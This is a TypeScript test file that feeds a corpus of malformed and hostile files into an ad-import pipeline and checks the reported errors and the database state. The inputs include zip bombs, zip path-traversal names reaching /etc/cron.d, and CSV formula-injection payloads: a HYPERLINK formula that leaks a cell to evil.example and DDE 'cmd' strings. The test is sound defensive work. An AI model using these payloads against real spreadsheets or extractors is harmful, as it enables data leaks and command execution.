// The bad-input corpus (tests/fixtures/bad, described in its README) against real databases: every
// file is imported into a database that already holds ads, and the test checks what the user is
// told (file, line, field and message, exactly), the import's status, and the database afterwards:
// - a refused file, or one none of whose rows can be imported, leaves it exactly as it was: row
//   counts (Ad, AdText, Company, AdChange), the full-text index size and a sha256 over every ad;
// - a file whose good rows import beside reported bad rows adds exactly those rows, touches no ad
//   that was there before, and importing it again changes nothing.
// A few inputs too big to commit (a record over the reader's 16 MB limit, a zip over the entry
// limit) are written here, into a temporary folder.
import { createHash } from "node:crypto";
import { createWriteStream, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import yazl from "yazl";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createDb, type Db } from "@/lib/db/client";
import { csvCell, csvRow } from "@/lib/csv/write";
import { openImportStore } from "@/lib/import/pipeline";
import { DEFAULT_MAX_RECORD_BYTES } from "@/lib/import/csv-reader";
import { FIELD_LIMITS } from "@/lib/import/adzuna-csv";
import { ZIP_LIMITS } from "@/lib/import/zip";
import type { ImportStore } from "@/lib/import/writer";
import { importFiles, openSearchIndex, type SearchIndex } from "../support/import-db";
import { createTestDatabase, testDialects, type TestDatabase } from "../support/test-db";

const BAD = path.resolve("tests/fixtures/bad");
const tmp = mkdtempSync(path.join(tmpdir(), "rd-bad-input-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
// Where the zips' hostile entry names would land if anything extracted them (checked after the imports).
const ESCAPES = [path.resolve(BAD, "../../evil.txt"), path.resolve(BAD, "../../../evil.txt"), path.resolve("../../evil.txt"), "/tmp/evil.txt", "/etc/cron.d/evil.txt"];
const escapedBefore = ESCAPES.filter((p) => existsSync(p));

const HEADER = "Id,Title,FullDescription,LocationRaw,LocationNormalized,ContractType,ContractTime,Company,Category,SalaryRaw,SalaryNormalized,SourceName";
const row = (id: number | string, title: string, desc: string, company = "") => `${id},${title},${desc},,,,permanent,${company},,,,fixtures.test`;
const csv = (rows: string[]) => [HEADER, ...rows].join("\r\n") + "\r\n";

// ---- what each file must do ---------------------------------------------------------------------

/** What the user sees for one problem: line, field, severity, message, and the file (default: the file imported). */
type Issue = [line: number | null, field: string | null, severity: "error" | "warning", message: string, file?: string];

/** `dir`: where the file is when it is not committed (written by this test). */
type Where = { file: string; dir?: string };
/** The whole file is refused: FAILED, the refusal as the import's message, nothing written. */
type Refused = Where & { refused: string; line?: number; warnings?: Issue[] };
/** The file is read but not one row can be imported: FAILED, each problem reported, nothing written. */
type NothingLands = Where & { nothingLands: Issue[] };
/** Good rows import (externalId → title), bad rows are reported, the ads already there are untouched. */
type Landed = Where & { landed: Record<number, string>; issues: Issue[]; duplicates?: number };
type Case = Refused | NothingLands | Landed;

const EMPTY = "the file is empty";
const BINARY = "is a binary file, not a CSV, a text ad or a zip";
const UNCLOSED = "a quoted field is never closed; the rest of the file was not read";
const STRAY = "a quote character appears inside an unquoted field or after a closing quote; read as text";
const CP1252 = "text that is not UTF-8 was read as Windows-1252";
const BAD_ID = (v: string) => `Id must be a whole number between 1 and 999,999,999, got "${v}"`;

const CASES: Case[] = [
  // Refused before a row is read.
  { file: "empty.csv", refused: EMPTY },
  { file: "empty.txt", refused: EMPTY },
  { file: "empty.zip", refused: EMPTY },
  { file: "bom-only.csv", refused: EMPTY },
  { file: "header-only.csv", refused: "has a header but no rows" },
  { file: "wrong-header.csv", refused: "not an Adzuna ads file: the header has no Id, Title, FullDescription columns (found: Name, Email, Phone, Notes)" },
  { file: "missing-id-column.csv", refused: "not an Adzuna ads file: the header has no Id column (found: Title, FullDescription, Company)" },
  { file: "missing-title-column.csv", refused: "not an Adzuna ads file: the header has no Title column (found: Id, FullDescription, Company)" },
  { file: "missing-description-column.csv", refused: "not an Adzuna ads file: the header has no FullDescription column (found: Id, Title, Description, Company)" },
  { file: "unterminated-quote-header.csv", refused: `the header on line 1 cannot be read: ${UNCLOSED}`, line: 1 },
  { file: "utf16-bom.csv", refused: "is UTF-16 text; save it as UTF-8 and import it again" },
  { file: "png-named.csv", refused: BINARY },
  { file: "pdf-named.txt", refused: BINARY },
  { file: "nul-byte-early.csv", refused: BINARY },
  { file: "not-a-zip.zip", refused: "has a .zip name but is not a zip archive" },
  { file: "zip-truncated.zip", refused: "not a readable zip file (End of central directory record signature not found. Either not a zip file, or file is truncated.)" },
  { file: "zip-bomb.zip", refused: 'entry "Sales/zeros.txt" expands 1029× (a zip bomb?); nothing was extracted' },
  {
    file: "zip-only-unsafe-names.zip",
    refused: "holds no .txt text ads (2 other entries skipped)",
    warnings: [
      [null, null, "warning", "skipped: the name climbs out of the archive (..)", "zip-only-unsafe-names.zip: ../../evil.txt"],
      [null, null, "warning", "skipped: the name is an absolute path", "zip-only-unsafe-names.zip: /etc/cron.d/evil.txt"],
    ],
  },
  {
    file: "zip-too-many-entries.zip",
    dir: tmp,
    refused: `the zip holds ${(ZIP_LIMITS.maxEntries + 1).toLocaleString("en-GB")} entries; the limit is ${ZIP_LIMITS.maxEntries.toLocaleString("en-GB")}`,
  },

  // Read, but no row can be imported.
  { file: "unterminated-quote-only-row.csv", nothingLands: [[2, "FullDescription", "error", UNCLOSED]] },
  { file: "textad-missing-title.txt", nothingLands: [[1, "Title", "error", "missing Title:"]] },
  { file: "textad-missing-webindex.txt", nothingLands: [[2, "Webindex", "error", "missing Webindex:"]] },
  { file: "textad-missing-description.txt", nothingLands: [[4, "Description", "error", "missing Description:"]] },
  { file: "textad-bad-webindex.txt", nothingLands: [[2, "Webindex", "error", 'Webindex must be a whole number, got "ABC-123"']] },
  { file: "textad-nul-byte.txt", nothingLands: [[null, null, "error", "is a binary file, not a text ad"]] },

  // Good rows import; bad rows are reported with line and field.
  { file: "unterminated-quote.csv", landed: { 97020001: "Nurse" }, issues: [[3, "FullDescription", "error", UNCLOSED]] },
  {
    file: "record-over-limit.csv",
    dir: tmp,
    landed: { 97400001: "Nurse" },
    issues: [[3, null, "error", `the record starting here is larger than ${DEFAULT_MAX_RECORD_BYTES / 1048576} MB (an unclosed quote?); the rest of the file was not read`]],
  },
  {
    file: "stray-quote.csv",
    landed: { 97030001: 'Installer for 27" monitors', 97030002: "Driver" },
    issues: [
      [2, "Title", "warning", STRAY],
      [3, "FullDescription", "warning", STRAY],
    ],
  },
  { file: "too-many-fields.csv", landed: { 97040001: "Welder", 97040002: "Fitter" }, issues: [[3, null, "error", "expected 12 fields, found 13"]] },
  { file: "too-few-fields.csv", landed: { 97050001: "Driver", 97050002: "Porter" }, issues: [[3, null, "error", "expected 12 fields, found 3"]] },
  { file: "field-too-long.csv", landed: { 97060001: "Cleaner" }, issues: [[3, "Title", "error", "Title is longer than 1,000 characters"]] },
  {
    file: "description-over-limit.csv",
    dir: tmp,
    landed: { 97410001: "Nurse" },
    issues: [[3, "FullDescription", "error", `FullDescription is longer than ${FIELD_LIMITS.FullDescription.toLocaleString("en-GB")} characters`]],
  },
  {
    file: "non-numeric-id.csv",
    landed: { 97070001: "Baker" },
    issues: [
      [3, "Id", "error", BAD_ID("abc")],
      [4, "Id", "error", BAD_ID("12a")],
      [5, "Id", "error", BAD_ID("1.5")],
      [6, "Id", "error", BAD_ID("1e6")],
      [7, "Id", "error", "Id is empty"],
    ],
  },
  {
    file: "bad-id-range.csv",
    landed: { 97080001: "Butcher" },
    issues: [
      [3, "Id", "error", BAD_ID("-5")],
      [4, "Id", "error", BAD_ID("0")],
      [5, "Id", "error", BAD_ID("1000000000")],
      [6, "Id", "error", "Id is longer than 20 characters"],
    ],
  },
  {
    file: "empty-required-values.csv",
    landed: { 97090001: "Gardener" },
    issues: [
      [3, "Title", "error", "Title is empty"],
      [4, "FullDescription", "error", "FullDescription is empty"],
      [5, "Title", "error", "Title is empty"],
      [5, "FullDescription", "error", "FullDescription is empty"],
    ],
  },
  {
    file: "duplicate-ids.csv",
    landed: { 97100001: "Senior Care Assistant", 97100002: "Chef" },
    issues: [[4, "Id", "warning", "Id 97100001 also appears on line 2; this later row is the one kept"]],
    duplicates: 1,
  },
  { file: "windows-1252.csv", landed: { 97110001: "Café manager", 97110002: "Café chef" }, issues: [[2, null, "warning", CP1252]] },
  { file: "invalid-utf8.csv", landed: { 97120001: "Nurse Ã(" }, issues: [[2, null, "warning", CP1252]] },
  {
    file: "formula-cells.csv",
    landed: { 97130001: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', 97130002: "-2+3", 97130003: "@SUM(A1:A9)", 97130004: "+44 20 7946 0000" },
    issues: [],
  },
  {
    file: "mixed-line-endings.csv",
    landed: { 97140001: "Nurse", 97140002: "Carer", 97140003: "Chef", 97140004: "Porter", 97140005: "Driver" },
    issues: [[10, "Id", "error", BAD_ID("oops")]],
  },
  {
    file: "nul-byte-late.csv",
    landed: { ...Object.fromEntries(Array.from({ length: 60 }, (_, i) => [97010001 + i, `Care Assistant ${i + 1}`])), 97010062: "Porter" },
    issues: [[62, "Title", "error", "Title contains a NUL character (is the file damaged?)"]],
  },
  {
    file: "zip-path-traversal.zip",
    landed: { 97320004: "Sales Executive" },
    issues: [
      [null, null, "warning", "skipped: the name climbs out of the archive (..)", "zip-path-traversal.zip: ../../evil.txt"],
      [null, null, "warning", "skipped: the name is an absolute path", "zip-path-traversal.zip: /tmp/evil.txt"],
      [null, null, "warning", "skipped: the name climbs out of the archive (..)", "zip-path-traversal.zip: Sales/../../../evil.txt"],
    ],
  },
  {
    file: "zip-bomb-lying-size.zip",
    landed: { 97310001: "Sales Executive 97310001" },
    issues: [[null, null, "error", "could not be read (too many bytes in the stream. expected 100. got at least 16384)", "zip-bomb-lying-size.zip: Sales/liar.txt"]],
  },
  {
    file: "zip-corrupt-entry.zip",
    landed: { 97350001: "Sales Executive 97350001" },
    issues: [[null, null, "error", "could not be read (invalid bit length repeat)", "zip-corrupt-entry.zip: Sales/Job_2.txt"]],
  },
];

// ---- inputs written here rather than committed ------------------------------------------------

beforeAll(async () => {
  // A record over the reader's 16 MB limit (a description), between two good rows: the row after it
  // is never read. The reader checks the record it holds after each 1 MB chunk it reads, so a
  // record that ends in the chunk that crosses the limit still completes (and is refused by the
  // FullDescription limit): this one runs on for 2 MB more.
  const big = Buffer.alloc(DEFAULT_MAX_RECORD_BYTES + 2 * 1048576, "x");
  writeFileSync(
    path.join(tmp, "record-over-limit.csv"),
    Buffer.concat([
      Buffer.from(csv([row(97400001, "Nurse", "Nights")]) + '97400002,Carer,"'),
      big,
      Buffer.from('",,,,permanent,,,,,fixtures.test\r\n' + row(97400003, "Chef", "Kitchen") + "\r\n"),
    ]),
  );
  // A description one character over its field limit (still far under the reader's record limit).
  writeFileSync(path.join(tmp, "description-over-limit.csv"), csv([row(97410001, "Nurse", "Nights"), row(97410002, "Carer", "d".repeat(FIELD_LIMITS.FullDescription + 1))]));
  // One entry more than a zip may hold (empty, stored entries keep it at ~2 MB).
  const zip = new yazl.ZipFile();
  for (let i = 0; i <= ZIP_LIMITS.maxEntries; i++) zip.addBuffer(Buffer.alloc(0), `Sales/Job_${i}.txt`, { compress: false });
  zip.end();
  await new Promise<void>((resolve, reject) =>
    zip.outputStream
      .pipe(createWriteStream(path.join(tmp, "zip-too-many-entries.zip")))
      .on("close", resolve)
      .on("error", reject),
  );
});

// ---- the database before and after -------------------------------------------------------------

type Snapshot = {
  counts: { ads: number; texts: number; companies: number; changes: number; index: number };
  hash: string;
  ads: Map<number, string>;
  groups: Map<number, number | null>;
  companies: string[];
};

/**
 * Row counts, the full-text index size, and a sha256 over every ad (all columns, its description and
 * company) but its near-duplicate group, kept apart: a new ad may rightly join an existing ad's group.
 */
async function snapshot(db: Db, search: SearchIndex): Promise<Snapshot> {
  const rows = await db.ad.findMany({ include: { text: { select: { description: true } }, company: { select: { name: true } } }, orderBy: { externalId: "asc" } });
  const ads = new Map(rows.map(({ duplicateGroupId: _g, duplicateCount: _c, ...r }) => [r.externalId, createHash("sha256").update(JSON.stringify(r)).digest("hex")]));
  const groups = new Map(rows.map((r) => [r.externalId, r.duplicateGroupId]));
  return {
    counts: {
      ads: await db.ad.count(),
      texts: await db.adText.count(),
      companies: await db.company.count(),
      changes: await db.adChange.count(),
      index: await search.size(),
    },
    hash: createHash("sha256")
      .update([...ads.values()].join("\n"))
      .digest("hex"),
    ads,
    groups,
    companies: (await db.company.findMany({ select: { name: true } })).map((c) => c.name).sort(byCodeUnits),
  };
}

const byCodeUnits = (a: string, b: string) => (a < b ? -1 : a > b ? 1 : 0); // the databases' collations differ
const sortIssues = <T extends { file: string; line: number | null; message: string }>(xs: T[]) =>
  [...xs].sort((a, b) => a.file.localeCompare(b.file) || (a.line ?? 0) - (b.line ?? 0) || a.message.localeCompare(b.message));

describe.each(testDialects())("bad input on %s", (dialect) => {
  let tdb: TestDatabase;
  let db: Db;
  let store: ImportStore;
  let search: SearchIndex;

  beforeAll(async () => {
    tdb = await createTestDatabase(`bad_input_${dialect}`, dialect);
    db = createDb(tdb.url);
    store = openImportStore(tdb.url);
    search = await openSearchIndex(tdb.url, dialect);
    // The ads already there: some of the bad rows carry their Ids (90000001–3). One has been
    // updated by a later import, so it has history and version 2.
    const seed = (name: string, title: string) => {
      const file = path.join(tmp, name);
      writeFileSync(
        file,
        csv([
          row(90000001, title, "Days in Leeds", "Seed Care Ltd"),
          row(90000002, "Chef", "Kitchen work", "Seed Kitchens"),
          row(90000003, "Driver", "Class 1 driving", "Seed Care Ltd"),
        ]),
      );
      return importFiles(tdb.url, store, [{ path: file, name }]);
    };
    expect((await seed("seed.csv", "Care Assistant")).record).toMatchObject({ status: "SUCCEEDED", created: 3 });
    expect((await seed("seed-v2.csv", "Senior Care Assistant")).record).toMatchObject({ status: "SUCCEEDED", updated: 1 });
    expect(await db.adChange.count()).toBe(1);
  }, 120_000);
  afterAll(async () => {
    await search?.close();
    await store?.close();
    await db?.$disconnect();
    await tdb?.drop();
  });

  async function run(c: Case) {
    const file = path.join(c.dir ?? BAD, c.file);
    const { id, outcome, record } = await importFiles(tdb.url, store, [{ path: file, name: c.file }]);
    const issues = await db.importIssue.findMany({ where: { importId: id }, select: { file: true, line: true, field: true, severity: true, message: true } });
    return { outcome, record, issues: sortIssues(issues) };
  }
  const expected = (c: Case, list: Issue[]) => sortIssues(list.map(([line, field, severity, message, file]) => ({ file: file ?? c.file, line, field, severity, message })));

  it("the corpus: every file has a case here and a line in the README, and the folder stays small", () => {
    const files = readdirSync(BAD).filter((f) => f !== "README.md");
    expect(files.length).toBeGreaterThanOrEqual(25);
    expect(files.sort()).toEqual(
      CASES.filter((c) => !c.dir)
        .map((c) => c.file)
        .sort(),
    );
    const readme = readFileSync(path.join(BAD, "README.md"), "utf8");
    for (const c of CASES) expect(readme, c.file).toContain(`\`${c.file}\``);
    const bytes = files.reduce((n, f) => n + readFileSync(path.join(BAD, f)).length, 0);
    expect(bytes).toBeLessThan(512 * 1024);
    // The bombs are small on disk and expand to 64 MB each.
    expect(readFileSync(path.join(BAD, "zip-bomb.zip")).length).toBeLessThan(100 * 1024);
  });

  const refused = CASES.filter((c): c is Refused => "refused" in c);
  it.each(refused.map((c) => [c.file, c] as const))("%s is refused with one clear message; the database is unchanged", async (_, c) => {
    const before = await snapshot(db, search);
    const { outcome, record, issues } = await run(c);
    const warnings = c.warnings ?? [];
    expect(outcome).toMatchObject({ status: "FAILED", message: `${c.file} ${c.refused}`, files: [{ name: c.file, refused: c.refused }] });
    expect(record).toMatchObject({ status: "FAILED", message: `${c.file} ${c.refused}`, created: 0, updated: 0, unchanged: 0, errors: 1, warnings: warnings.length });
    expect(issues).toEqual(expected(c, [[c.line ?? null, null, "error", c.refused], ...warnings]));
    expect(await snapshot(db, search)).toEqual(before);
    await search.check();
  });

  const nothingLands = CASES.filter((c): c is NothingLands => "nothingLands" in c);
  it.each(nothingLands.map((c) => [c.file, c] as const))("%s: no row can be imported, each problem named; the database is unchanged", async (_, c) => {
    const before = await snapshot(db, search);
    const { outcome, record, issues } = await run(c);
    expect(outcome).toMatchObject({ status: "FAILED", message: "no row could be imported; see the problems below", files: [{ name: c.file, refused: null }] });
    expect(record).toMatchObject({ status: "FAILED", created: 0, updated: 0, unchanged: 0, skipped: 1, rowsDone: 1, errors: c.nothingLands.length, warnings: 0 });
    expect(issues).toEqual(expected(c, c.nothingLands));
    expect(await snapshot(db, search)).toEqual(before);
    await search.check();
  });

  const partial = CASES.filter((c): c is Landed => "landed" in c);
  it.each(partial.map((c) => [c.file, c] as const))(
    "%s: the good rows import, the bad ones are reported, the ads already there are untouched; again changes nothing",
    async (_, c) => {
      const before = await snapshot(db, search);
      const landed = Object.keys(c.landed).map(Number);
      const errors = c.issues.filter((i) => i[2] === "error");
      const skipped = new Set(errors.map((i) => `${i[4] ?? ""}:${i[0]}`)).size; // a row with two errors is skipped once

      const first = await run(c);
      expect(first.outcome).toMatchObject({ status: "SUCCEEDED", message: null, files: [{ name: c.file, refused: null }] });
      expect(first.record).toMatchObject({
        status: "SUCCEEDED",
        created: landed.length,
        updated: 0,
        unchanged: 0,
        skipped,
        errors: errors.length,
        warnings: c.issues.length - errors.length,
        duplicates: c.duplicates ?? 0,
      });
      expect(first.issues).toEqual(expected(c, c.issues));

      // Exactly the good rows landed, with their titles; nothing else moved.
      expect(landed.every((id) => !before.ads.has(id))).toBe(true);
      const ads = await db.ad.findMany({
        where: { externalId: { notIn: [...before.ads.keys()] } },
        select: { externalId: true, title: true, version: true },
        orderBy: { externalId: "asc" },
      });
      expect(ads).toEqual(landed.sort((a, b) => a - b).map((id) => ({ externalId: id, title: c.landed[id], version: 1 })));
      const after = await snapshot(db, search);
      expect(after.counts).toEqual({
        ...before.counts,
        ads: before.counts.ads + landed.length,
        texts: before.counts.texts + landed.length,
        index: before.counts.index + landed.length,
        companies: after.companies.length,
      });
      for (const [id, hash] of before.ads) expect(after.ads.get(id), `ad ${id}`).toBe(hash);
      // An ad already there changes group only by gaining a copy among the rows that landed.
      const landedGroups = new Set(landed.map((id) => after.groups.get(id)));
      for (const [id, group] of before.groups) if (after.groups.get(id) !== group) expect(landedGroups.has(after.groups.get(id)), `ad ${id}'s new group`).toBe(true);
      const newCompanies = await db.company.findMany({ where: { ads: { some: { externalId: { in: landed } } } }, select: { name: true } });
      expect(after.companies).toEqual([...new Set([...before.companies, ...newCompanies.map((x) => x.name)])].sort(byCodeUnits));
      await search.check();

      // Again: the same problems, every good row unchanged, the database as it was after the first run.
      const again = await run(c);
      expect(again.outcome?.status).toBe("SUCCEEDED");
      expect(again.record).toMatchObject({ created: 0, updated: 0, unchanged: landed.length, skipped, errors: errors.length });
      expect(again.issues).toEqual(first.issues);
      expect(await snapshot(db, search)).toEqual(after);
    },
  );

  it("formula cells are stored as the raw text and neutralised by the CSV export", async () => {
    await run(CASES.find((c) => c.file === "formula-cells.csv")!); // already imported above: unchanged, and this test stands alone
    const ids = [97130001, 97130002, 97130003, 97130004];
    const ads = await db.ad.findMany({ where: { externalId: { in: ids } }, include: { text: true, company: true }, orderBy: { externalId: "asc" } });
    expect(ads.map((a) => [a.externalId, a.title, a.company?.name ?? null, a.text?.description])).toEqual([
      [97130001, '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+cmd|' /C calc'!A0", "Formula in the title"],
      [97130002, "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "Minus formula in the title"],
      [97130003, "@SUM(A1:A9)", null, "=1+1 in the description"],
      [97130004, "+44 20 7946 0000", "=cmd", "Plus formula in the title"],
    ]);
    expect(csvCell(ads[0].title)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(csvCell(ads[1].title)).toBe("'-2+3");
    expect(csvCell(ads[2].title)).toBe("'@SUM(A1:A9)");
    expect(csvCell(ads[0].company?.name)).toBe("'+cmd|' /C calc'!A0");
    // Every cell of the exported rows, read back by a CSV reader, starts with the quote that makes it text.
    const exported = ads.map((a) => csvRow([a.externalId, a.title, a.company?.name, a.text?.description])).join("");
    const cells = (parse(exported) as string[][]).flatMap((r) => r.slice(1));
    const formulas = cells.filter((v) => v !== "" && !/^(Formula|Minus|Plus) /.test(v));
    expect(formulas).toHaveLength(8);
    for (const v of formulas) expect(v, v).toMatch(/^'[=+\-@]/);
  });

  it("path traversal in a zip writes nothing outside (nothing is extracted at all)", () => {
    expect(ESCAPES.filter((p) => existsSync(p))).toEqual(escapedBefore);
  });
});
